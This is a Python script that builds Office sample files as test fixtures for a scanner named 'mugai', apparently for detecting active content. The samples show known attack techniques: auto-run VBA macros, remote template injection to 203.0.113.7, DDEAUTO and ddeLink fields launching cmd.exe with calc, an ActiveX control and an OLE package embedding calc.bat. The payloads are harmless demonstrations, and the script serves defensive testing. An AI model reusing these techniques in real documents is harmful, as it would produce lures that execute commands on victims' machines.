#!/usr/bin/python3
"""Builds the Office samples for the ooxml and ole2 tests (issue 5) into --out DIR.

  generate.py --out DIR --ole-tool PATH [--soffice PATH]

Everything is made here from scratch (Python standard library, the libgsf sample maker
`ole_tool` built by CMake, and LibreOffice for the legacy binary formats); nothing comes from
real documents or real malware. The macros only show a message box.

Hand-written OOXML (deterministic: fixed timestamps, fixed order):
  benign.docx / benign.xlsx       Japanese + ASCII text (BENIGN_LINES), nothing active
  macro.docm                      word/vbaProject.bin: a real MS-OVBA project (AutoOpen), vbaData.xml
  docprops-first.docm             macro.docm with three docProps parts before word/ (libmagic
                                  calls it application/octet-stream; mugai must still find it)
  macro.xlsm                      xl/vbaProject.bin (Auto_Open), macro-enabled workbook type
  template-injection.docx         settings.xml attachedTemplate -> http://203.0.113.7/t.dotm
                                  (TargetMode=External), plus a remote linked image and a hyperlink
  dde.docx                        DDEAUTO as a complex field split over runs, and a DDE fldSimple
  activex.docx                    w:control -> word/activeX/activeX1.xml + activeX1.bin
  ole-embedding.docx              o:OLEObject -> word/embeddings/oleObject1.bin (\\x01Ole10Native)
  external-link.xlsx              xl/externalLinks/externalLink1.xml with a ddeLink (cmd|'/c calc')
Made with LibreOffice (--soffice; not byte-reproducible, so they are built at test time):
  benign.pptx                     from a hand-written flat ODP
  benign.ppt                      benign.pptx converted to ppt
  dde.doc                         dde.docx converted to doc (LibreOffice keeps the DDE fields)
  macro.doc / macro.xls           benign.docx / benign.xlsx converted to doc/xls, then a
                                  Macros / _VBA_PROJECT_CUR storage added by ole_tool
Japanese formats (minimal files with the real signatures, no real content):
  sample.jtd (OLE2 with \\x04JSRV_SegmentInformation), sample.xdw ("%XDW"), sample.jww
  ("JwwData."), sample.p21 (ISO-10303-21 STEP), sample.sfc (STEP with the SCADEC header)
"""
import argparse
import os
import shutil
import subprocess
import sys
import tempfile
import zipfile

BENIGN_LINES = ["mugai office sample: Quarterly figures ABC-123", "令和6年度 予算説明資料 確認済み"]
MACRO_WORD = 'Sub AutoOpen()\r\n    MsgBox "mugai sample macro"\r\nEnd Sub\r\n'
MACRO_EXCEL = 'Sub Auto_Open()\r\n    MsgBox "mugai sample macro"\r\nEnd Sub\r\n'

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_R = "http://schemas.openxmlformats.org/package/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CT_RELS = "application/vnd.openxmlformats-package.relationships+xml"
CT_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CT_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
CT_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CT_XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
CT_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
CT_SETTINGS = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def content_types(defaults, overrides):
    body = "".join('<Default Extension="%s" ContentType="%s"/>' % d for d in defaults)
    body += "".join('<Override PartName="/%s" ContentType="%s"/>' % o for o in overrides)
    return HEAD + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' + body + "</Types>"


def rels(items):
    body = ""
    for rid, rtype, target, *external in items:
        body += '<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (
            rid, rtype, target, ' TargetMode="External"' if external else "")
    return HEAD + '<Relationships xmlns="%s">%s</Relationships>' % (PKG_R, body)


def write_zip(path, members):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 4, 1, 9, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data.encode("utf-8") if isinstance(data, str) else data)


def paragraph(text):
    return '<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % text


def document(body_xml):
    return (HEAD + '<w:document xmlns:w="%s" xmlns:r="%s" xmlns:v="urn:schemas-microsoft-com:vml" '
            'xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>%s<w:sectPr/></w:body></w:document>'
            % (W, R, body_xml))


def docx(path, body_xml, main_type=CT_DOCX, parts=(), doc_rels=(), defaults=(), overrides=(), settings=None,
         settings_rels=()):
    """A minimal WordprocessingML package; `parts` are extra (name, bytes) members."""
    all_defaults = [("rels", CT_RELS), ("xml", "application/xml")] + list(defaults)
    all_overrides = [("word/document.xml", main_type)] + list(overrides)
    members = []
    document_rels = list(doc_rels)
    if settings is not None:
        all_overrides.append(("word/settings.xml", CT_SETTINGS))
        document_rels.append(("rIdSettings", R + "/settings", "settings.xml"))
    members.append(("[Content_Types].xml", content_types(all_defaults, all_overrides)))
    members.append(("_rels/.rels", rels([("rId1", R + "/officeDocument", "word/document.xml")])))
    members.append(("word/document.xml", document(body_xml)))
    members.append(("word/_rels/document.xml.rels", rels(document_rels)))
    if settings is not None:
        members.append(("word/settings.xml", settings))
        if settings_rels:
            members.append(("word/_rels/settings.xml.rels", rels(settings_rels)))
    members.extend(parts)
    write_zip(path, members)


def benign_body():
    return "".join(paragraph(line) for line in BENIGN_LINES)


def sheet_xml():
    rows = ""
    for i, line in enumerate(BENIGN_LINES, start=1):
        rows += '<row r="%d"><c r="A%d" t="inlineStr"><is><t>%s</t></is></c></row>' % (i, i, line)
    return (HEAD + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="%s">'
            '<sheetData>%s</sheetData></worksheet>' % (R, rows))


def xlsx(path, main_type=CT_XLSX, parts=(), wb_rels=(), defaults=(), overrides=(), workbook_extra=""):
    all_defaults = [("rels", CT_RELS), ("xml", "application/xml")] + list(defaults)
    all_overrides = [("xl/workbook.xml", main_type), ("xl/worksheets/sheet1.xml", CT_SHEET)] + list(overrides)
    workbook = (HEAD + '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="%s">'
                '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>%s</workbook>' % (R, workbook_extra))
    members = [
        ("[Content_Types].xml", content_types(all_defaults, all_overrides)),
        ("_rels/.rels", rels([("rId1", R + "/officeDocument", "xl/workbook.xml")])),
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", rels([("rId1", R + "/worksheet", "worksheets/sheet1.xml")] + list(wb_rels))),
        ("xl/worksheets/sheet1.xml", sheet_xml()),
    ]
    members.extend(parts)
    write_zip(path, members)


def ole_tool(tool, *args):
    subprocess.run([tool, *args], check=True)


def vba_project(tool, tmp, code, name):
    code_path = os.path.join(tmp, name + ".bas")
    with open(code_path, "w", newline="") as f:
        f.write(code)
    out = os.path.join(tmp, name + ".bin")
    ole_tool(tool, "vba-project", out, code_path)
    return open(out, "rb").read()


def build_ooxml(out, tool, tmp):
    docx(os.path.join(out, "benign.docx"), benign_body())
    xlsx(os.path.join(out, "benign.xlsx"))

    word_vba = vba_project(tool, tmp, MACRO_WORD, "word")
    vba_data = (HEAD + '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml">'
                '<wne:mcds><wne:mcd wne:macroName="PROJECT.MODULE1.AUTOOPEN" wne:name="Project.Module1.AutoOpen" '
                'wne:bEncrypt="00" wne:cmg="56"/></wne:mcds></wne:vbaSuppData>')
    docx(os.path.join(out, "macro.docm"), benign_body(), main_type=CT_DOCM,
         parts=[("word/vbaProject.bin", word_vba), ("word/vbaData.xml", vba_data),
                ("word/_rels/vbaProject.bin.rels",
                 rels([("rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData",
                        "vbaData.xml")]))],
         doc_rels=[("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")],
         defaults=[("bin", "application/vnd.ms-office.vbaProject")],
         overrides=[("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")])

    docprops_first(os.path.join(out, "macro.docm"), os.path.join(out, "docprops-first.docm"))

    excel_vba = vba_project(tool, tmp, MACRO_EXCEL, "excel")
    xlsx(os.path.join(out, "macro.xlsm"), main_type=CT_XLSM, parts=[("xl/vbaProject.bin", excel_vba)],
         wb_rels=[("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")],
         defaults=[("bin", "application/vnd.ms-office.vbaProject")])

    settings = (HEAD + '<w:settings xmlns:w="%s" xmlns:r="%s"><w:attachedTemplate r:id="rId1"/></w:settings>' % (W, R))
    linked = ('<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>%s</w:t></w:r></w:hyperlink></w:p>'
              '<w:p><w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdPic" o:title=""/>'
              '</v:shape></w:pict></w:r></w:p>' % "link text stays")
    docx(os.path.join(out, "template-injection.docx"), benign_body() + linked, settings=settings,
         settings_rels=[("rId1", R + "/attachedTemplate", "http://203.0.113.7/t.dotm", True)],
         doc_rels=[("rIdLink", R + "/hyperlink", "http://203.0.113.7/phish", True),
                   ("rIdPic", R + "/image", "http://203.0.113.7/track.png", True)])

    dde = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
           '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
           '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
           '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>dde result text</w:t></w:r>'
           '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
           '<w:p><w:fldSimple w:instr=" DDE &quot;c:\\\\windows\\\\system32\\\\cmd.exe&quot; &quot;/c notepad&quot; ">'
           '<w:r><w:t>simple field text</w:t></w:r></w:fldSimple></w:p>'
           '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
           '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
           '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    docx(os.path.join(out, "dde.docx"), benign_body() + dde)

    activex_xml = (HEAD + '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="%s" '
                   'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage" '
                   'r:id="rId1"/>' % R)
    activex_body = ('<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="CheckBox1" w:shapeid="_x0000_i1025"/>'
                    '</w:object></w:r></w:p>')
    docx(os.path.join(out, "activex.docx"), benign_body() + activex_body,
         parts=[("word/activeX/activeX1.xml", activex_xml), ("word/activeX/activeX1.bin", b"\x00" * 64),
                ("word/activeX/_rels/activeX1.xml.rels",
                 rels([("rId1", "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
                        "activeX1.bin")]))],
         doc_rels=[("rIdAx", R + "/control", "activeX/activeX1.xml")],
         overrides=[("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
                    ("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX")])

    payload = os.path.join(tmp, "native.bin")
    with open(payload, "wb") as f:
        f.write(b"\x20\x00\x00\x00\x02\x00calc.bat\x00" + b"@echo mugai sample\r\n")
    ole_path = os.path.join(tmp, "oleObject1.bin")
    ole_tool(tool, "streams", ole_path, "\\x01Ole10Native=" + payload)
    ole_body = ('<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1026" '
                'DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>')
    docx(os.path.join(out, "ole-embedding.docx"), benign_body() + ole_body,
         parts=[("word/embeddings/oleObject1.bin", open(ole_path, "rb").read())],
         doc_rels=[("rIdOle", R + "/oleObject", "embeddings/oleObject1.bin")],
         defaults=[("bin", "application/vnd.openxmlformats-officedocument.oleObject")])

    link = (HEAD + '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/>'
            '</ddeItems></ddeLink></externalLink>')
    xlsx(os.path.join(out, "external-link.xlsx"),
         parts=[("xl/externalLinks/externalLink1.xml", link)],
         wb_rels=[("rIdExt", R + "/externalLink", "externalLinks/externalLink1.xml")],
         overrides=[("xl/externalLinks/externalLink1.xml",
                     "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")],
         workbook_extra='<externalReferences><externalReference r:id="rIdExt"/></externalReferences>')


def docprops_first(source, target):
    """The same package with three docProps parts written before word/, as report generators
    do: libmagic then no longer names it (application/octet-stream)."""
    with zipfile.ZipFile(source) as z:
        members = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    props = [("docProps/app.xml", "application/vnd.openxmlformats-officedocument.extended-properties+xml",
              R + "/extended-properties"),
             ("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml",
              "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"),
             ("docProps/custom.xml", "application/vnd.openxmlformats-officedocument.custom-properties+xml",
              R + "/custom-properties")]
    head = {}
    for name, data in members:
        if name == "[Content_Types].xml":
            extra = "".join('<Override PartName="/%s" ContentType="%s"/>' % (p, t) for p, t, _ in props)
            head[name] = data.decode().replace("</Types>", extra + "</Types>")
        elif name == "_rels/.rels":
            extra = "".join('<Relationship Id="rIdP%d" Type="%s" Target="%s"/>' % (i, r, p)
                            for i, (p, _, r) in enumerate(props))
            head[name] = data.decode().replace("</Relationships>", extra + "</Relationships>")
    ordered = [("[Content_Types].xml", head["[Content_Types].xml"]), ("_rels/.rels", head["_rels/.rels"])]
    ordered += [(p, HEAD + "<Properties/>") for p, _, _ in props]
    ordered += [(n, d) for n, d in members if n not in head]
    write_zip(target, ordered)


FODP = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"
 xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0"
 office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.presentation">
 <office:body><office:presentation><draw:page draw:name="page1">
  <draw:frame svg:x="2cm" svg:y="2cm" svg:width="20cm" svg:height="6cm"><draw:text-box>%s</draw:text-box></draw:frame>
 </draw:page></office:presentation></office:body></office:document>
"""


def soffice_convert(soffice, tmp, target, outdir, *inputs):
    profile = os.path.join(tmp, "profile")
    subprocess.run([soffice, "--headless", "--norestore", "-env:UserInstallation=file://" + profile,
                    "--convert-to", target, "--outdir", outdir, *inputs],
                   check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=300)


def build_with_soffice(out, tool, tmp, soffice):
    fodp = os.path.join(tmp, "benign.fodp")
    with open(fodp, "w", encoding="utf-8") as f:
        f.write(FODP % "".join("<text:p>%s</text:p>" % line for line in BENIGN_LINES))
    soffice_convert(soffice, tmp, "pptx", out, fodp)
    soffice_convert(soffice, tmp, "doc", tmp, os.path.join(out, "benign.docx"))
    soffice_convert(soffice, tmp, "xls", tmp, os.path.join(out, "benign.xlsx"))
    soffice_convert(soffice, tmp, "ppt", out, os.path.join(out, "benign.pptx"))
    soffice_convert(soffice, tmp, "doc", out, os.path.join(out, "dde.docx"))
    for source, storage, code, name in (("benign.doc", "Macros", MACRO_WORD, "macro.doc"),
                                        ("benign.xls", "_VBA_PROJECT_CUR", MACRO_EXCEL, "macro.xls")):
        code_path = os.path.join(tmp, name + ".bas")
        with open(code_path, "w", newline="") as f:
            f.write(code)
        ole_tool(tool, "add-vba", os.path.join(tmp, source), os.path.join(out, name), storage, code_path)
        shutil.copy(os.path.join(tmp, source), os.path.join(out, source))


def build_japanese(out, tool, tmp):
    segment = os.path.join(tmp, "segment.bin")
    with open(segment, "wb") as f:
        f.write(b"\x00" * 16)
    text = os.path.join(tmp, "text.bin")
    with open(text, "wb") as f:
        f.write("一太郎 sample".encode("utf-16-le"))
    ole_tool(tool, "streams", os.path.join(out, "sample.jtd"), "\\x04JSRV_SegmentInformation=" + segment,
             "DocumentText=" + text)
    with open(os.path.join(out, "sample.xdw"), "wb") as f:
        f.write(b"%XDW-1.0\x00\x00\x00\x00" + bytes(range(256)))
    with open(os.path.join(out, "sample.jww"), "wb") as f:
        f.write(b"JwwData." + (600).to_bytes(4, "little") + b"\x00" * 120)
    step_tail = ("FILE_NAME('sample','2024-04-01T09:00:00',(''),(''),'mugai','mugai','');\n"
                 "FILE_SCHEMA(('ASSOCIATIVE_DRAUGHTING'));\nENDSEC;\nDATA;\nENDSEC;\nEND-ISO-10303-21;\n")
    with open(os.path.join(out, "sample.p21"), "w", newline="\n") as f:
        f.write("ISO-10303-21;\nHEADER;\nFILE_DESCRIPTION(('mugai sample'),'2;1');\n" + step_tail)
    with open(os.path.join(out, "sample.sfc"), "w", newline="\n") as f:
        f.write("ISO-10303-21;\nHEADER;\nFILE_DESCRIPTION(('SCADEC level2 feature_mode'),'2;1');\n" + step_tail)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--out", required=True)
    parser.add_argument("--ole-tool", required=True)
    parser.add_argument("--soffice", default="", help="LibreOffice for pptx/doc/xls; empty = skip them")
    args = parser.parse_args()
    os.makedirs(args.out, exist_ok=True)
    with tempfile.TemporaryDirectory() as tmp:
        build_ooxml(args.out, args.ole_tool, tmp)
        build_japanese(args.out, args.ole_tool, tmp)
        if args.soffice:
            build_with_soffice(args.out, args.ole_tool, tmp, args.soffice)
    return 0


if __name__ == "__main__":
    sys.exit(main())
